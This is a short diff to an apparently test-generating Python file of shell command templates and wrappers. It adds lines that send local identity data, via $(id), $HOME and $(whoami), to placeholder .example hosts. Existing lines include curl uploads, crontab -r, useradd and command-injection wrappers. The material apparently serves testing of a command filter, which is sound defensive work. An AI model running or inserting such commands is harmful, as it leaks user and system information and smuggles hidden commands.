@@ -290,6 +290,8 @@ TEMPLATES = [
     "curl -d x=1 https://{f}.example", "curl -T {f} ftp://{f}.example", "scp {f} host:{f}", "ssh host ls",
     "nc host 80", "mail -s hi x@y.z", "gzip {f}", "mkdir -p /usr/{f}", "echo x > /etc/{f}", "crontab -r",
     "useradd {f}", "sudo ls", "gunzip {f}.gz", "tar -xf {f}.tar", "rsync -a --delete {f}/ out/",
+    "curl http://{f}.example/$(id)", "wget -q http://{f}.example/?u=$HOME", "U=$(id); curl http://{f}.example/$U",
+    "git clone https://{f}.example/$(whoami)",
 ]
 WRAPPERS = ["sh -c '{c}'", 'bash -c "{c}"', "$({c})", "`{c}`", "x; {c}", "true && {c}", "echo | {c}",
             "echo x | xargs {c}"]
